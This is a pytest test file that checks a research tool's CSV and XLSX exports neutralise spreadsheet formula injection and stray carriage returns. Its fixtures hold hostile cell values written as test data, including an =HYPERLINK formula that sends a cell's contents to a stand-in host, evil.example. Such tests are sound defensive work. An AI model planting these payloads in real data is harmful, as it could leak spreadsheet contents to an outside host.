"""Every spreadsheet export, given hostile names, memos and attributes: no cell
(header included) starts like a formula, and no carriage return is left to
start a new row. Exports: excerpts and the code x document matrix (CSV and
XLSX, pseudonymised and real), the pseudonym key, the codebook CSV, analysis
tables (what the Analyse and Retrieve pages download)."""

from __future__ import annotations

import io

import pytest

from exports.cells import FORMULA_STARTS
from tests.exports.docx_text import csv_cells, xlsx_cells

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
DOC = '=HYPERLINK("http://evil.example","report")'
MEMO = "Looks fine\r=1+1\r\nthen @SUM(A1)"
TEXT = (
    "Interviewer: How is the money?\n\nSarah: Short. We bid for everything now.\n\n"
    "Interviewer: And the hall?\n\nSarah: Shared with the church.\n"
)


@pytest.fixture
def hostile(sqlite_project):
    p = sqlite_project
    p.cases.add_organisation("+Trust", pseudonym="-Org")
    p.cases.set_attribute("+Trust", LINK, "+1")
    p.cases.set_attribute("+Trust", "@sector", "@x")
    p.cases.add_participant("Sarah Jones", pseudonym="=Person()", organisation="+Trust")
    p.cases.set_attribute("Sarah Jones", "-1", "-5\r=2+2")
    doc = p.corpus.import_file(
        "r.txt",
        TEXT.encode(),
        name=DOC,
        organisation="+Trust",
        aliases={"Sarah": "Sarah Jones", "Interviewer": None},
    )["guid"]
    p.codebook.add_code("@Funding", definition="-money\rflows")
    p.codebook.add_code("+Grants", parent="@Funding", definition="\tbids")
    start = TEXT.index("Short.")
    p.coding.apply_code(
        "@Funding/+Grants", "=coder", document=doc, start=start, end=start + 6, memo=MEMO
    )
    return p


def assert_safe(rows: list[list]) -> None:
    for row in rows:
        for cell in row:
            if isinstance(cell, str):
                assert not cell.startswith(FORMULA_STARTS), (cell, row)
                assert "\r" not in cell, (cell, row)


def csv_export(write) -> list[list[str]]:
    out = io.BytesIO()
    write(out)
    data = out.getvalue()
    text = data.decode("utf-8-sig")
    # A CR is only ever part of a CRLF row end (the codebook CSV); none in a cell.
    assert "\r" not in text.replace("\r\n", "\n")
    rows = csv_cells(data)
    assert_safe(rows)
    return rows


def xlsx_export(write) -> list[list]:
    out = io.BytesIO()
    write(out)
    rows = xlsx_cells(out.getvalue())
    assert_safe(rows)
    return rows


@pytest.mark.parametrize("pseudonymise", [True, False])
def test_excerpts_csv_and_xlsx(hostile, pseudonymise):
    def run(fmt):
        return lambda out: hostile.exports.export_excerpts(out, fmt, pseudonymise=pseudonymise)

    for rows in (csv_export(run("csv")), xlsx_export(run("xlsx"))):
        assert len(rows) == 2  # the header and the one excerpt: the memo's CRs started no row
        header, row = rows
        cells = dict(zip(header, row, strict=True))
        assert header[-3:] == ["'-1", "'" + LINK, "'@sector"]  # attributes sorted by name
        assert cells["memo"] == "Looks fine\n=1+1\nthen @SUM(A1)"  # a line inside one cell
        assert cells["code_path"] == "'@Funding/+Grants"
        assert cells["coder"] == "'=coder"
        assert cells["text"] == "Short."
        assert cells["'" + LINK] == "'+1"
        assert cells["'@sector"] == "'@x"
        assert cells["'-1"] == "'-5\n=2+2"
        if pseudonymise:
            assert (cells["speaker"], cells["organisation"]) == ("'=Person()", "'-Org")
        else:
            assert (cells["speaker"], cells["organisation"]) == ("Sarah Jones", "'+Trust")
            assert cells["document"] == "'" + DOC


def test_matrix_headers_are_document_names_and_are_neutralised(hostile):
    for fmt, read in (("csv", csv_export), ("xlsx", xlsx_export)):
        rows = read(
            lambda out, fmt=fmt: hostile.exports.export_matrix(out, fmt, pseudonymise=False)
        )
        assert [[str(c) for c in r] for r in rows] == [
            ["code_path", "'" + DOC],
            ["'@Funding/+Grants", "1"],
        ]


def test_pseudonym_key(hostile):
    rows = csv_export(hostile.exports.export_key)
    assert ["'+Trust", "'-Org"] in [r[:2] for r in rows]
    assert ["Sarah Jones", "'=Person()"] in [r[:2] for r in rows]


def test_codebook_csv(hostile):
    rows = csv_export(lambda out: hostile.codebook.export_codebook("csv", out))
    assert [(r[0], r[2]) for r in rows[1:]] == [
        ("'@Funding", "'-money\nflows"),
        ("'@Funding/+Grants", "'\tbids"),
    ]


def test_analysis_tables_csv_and_xlsx(hostile):
    table = hostile.analysis.frequency(by="organisation")
    for fmt, read in (("csv", csv_export), ("xlsx", xlsx_export)):
        data = hostile.analysis.table_file(table, fmt)
        rows = read(lambda out, data=data: out.write(data))
        assert len(rows) == 2
        cells = dict(zip(rows[0], rows[1], strict=True))
        assert (cells["path"], cells["group_label"]) == ("'@Funding/+Grants", "'-Org")
